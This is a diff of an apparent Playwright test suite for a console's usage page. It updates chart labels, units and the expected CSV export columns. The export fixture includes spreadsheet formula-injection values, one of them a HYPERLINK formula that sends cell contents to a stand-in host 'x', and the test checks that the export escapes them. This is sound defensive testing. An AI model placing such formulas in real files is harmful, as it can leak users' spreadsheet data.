@@ -68,7 +68,7 @@ describeConsole("usage", startUsed, (running) => {
   it("chart → all days, also those without usage, and a sentence that sums them up", async () => {
     const page = await open("/usage");
     // 29 days of 36 hours each, and none today.
-    const sentence = `Hours by day: 1,044 hours in 30 days; the most on ${wordOf(TODAY_MS - 29 * DAY_MS)}, 36 hours.`;
+    const sentence = `Usage by day: 1,044 h in 30 days; the most on ${wordOf(TODAY_MS - 29 * DAY_MS)}, 36 h.`;
     await page.getByRole("img", { name: sentence }).waitFor();
     expect(await totalOf(page)).toBe("1,044 h");
     const heights = await page
@@ -77,9 +77,9 @@ describeConsole("usage", startUsed, (running) => {
     expect(heights.map((height) => height > 0)).toEqual(Array.from({ length: 30 }, (_, index) => index < 29));
     await page.getByText("The days as a table").focus();
     await page.keyboard.press("Enter");
-    const rows = page.getByRole("table", { name: "Hours by day" }).getByRole("row");
+    const rows = page.getByRole("table", { name: "Usage by day" }).getByRole("row");
     expect(await rows.last().innerText()).toMatch(/–$/);
-    expect(await rows.nth(29).innerText()).toBe(`${wordOf(TODAY_MS - DAY_MS)}\t36`);
+    expect(await rows.nth(29).innerText()).toBe(`${wordOf(TODAY_MS - DAY_MS)}\t36 h`);
     expect(await violations(page)).toEqual([]);
   });
 
@@ -114,11 +114,11 @@ describeConsole("usage", startUsed, (running) => {
     await expect.poll(() => totalOf(page)).toBe("108 h");
     expect(new URL(page.url()).search).toBe(`?by=model&from=${first}&to=${YESTERDAY}`);
     await page.reload();
-    await page.getByRole("img", { name: /^Hours by day: 108 hours in 3 days/ }).waitFor();
+    await page.getByRole("img", { name: /^Usage by day: 108 h in 3 days/ }).waitFor();
     const rows = await page.getByRole("table", { name: "Usage by model" }).locator("tbody tr").allInnerTexts();
-    expect(rows.map((row) => row.split(/\s+/).slice(0, 4))).toEqual([
-      ["pi", "60", "55.6", "%"],
-      ["act", "48", "44.4", "%"],
+    expect(rows.map((row) => row.split(/\s+/).slice(0, 5))).toEqual([
+      ["pi", "60", "h", "55.6", "%"],
+      ["act", "48", "h", "44.4", "%"],
     ]);
   });
 
@@ -145,15 +145,15 @@ describeConsole("usage", startUsed, (running) => {
     expect(download.suggestedFilename()).toBe(`usage-${first}-to-${last}-by-robot.csv`);
     const text = await readFile(await download.path(), "utf8");
     expect(text.split("\r\n")).toEqual([
-      "\uFEFFrobot,seconds,hours",
-      `"'=HYPERLINK(""http://x/?""&A1,""y"")",57600,16.0000`,
-      `"'-2+3",50400,14.0000`,
-      `"'@sum",43200,12.0000`,
-      `"arm, left",36000,10.0000`,
-      "arm-5,28800,8.0000",
-      "arm-6,21600,6.0000",
-      "arm-7,14400,4.0000",
-      "arm-8,7200,2.0000",
+      "\uFEFFrobot,quantity,unit,hours,amount_cents",
+      `"'=HYPERLINK(""http://x/?""&A1,""y"")",57600,second,16.00,`,
+      `"'-2+3",50400,second,14.00,`,
+      `"'@sum",43200,second,12.00,`,
+      `"arm, left",36000,second,10.00,`,
+      "arm-5,28800,second,8.00,",
+      "arm-6,21600,second,6.00,",
+      "arm-7,14400,second,4.00,",
+      "arm-8,7200,second,2.00,",
       "",
     ]);
   });
@@ -166,7 +166,7 @@ describeConsole("usage", startUsed, (running) => {
     const before = large.requests.length;
     const page = await open(`/usage?from=${dayOf(TODAY_MS - 40 * DAY_MS)}&to=${YESTERDAY}`, large);
     // 8 + 7 + … + 2 hours of the first seven, one of each other, on 40 days.
-    await page.getByRole("img", { name: /: 25,120 hours in 40 days/ }).waitFor();
+    await page.getByRole("img", { name: /: 25,120 h in 40 days/ }).waitFor();
     const requests = large.requests.slice(before).filter(({ path }) => path.includes("/usage/summary"));
     expect(requests.map(({ status }) => status)).toEqual([200, 200]);
     // The service's own limit.
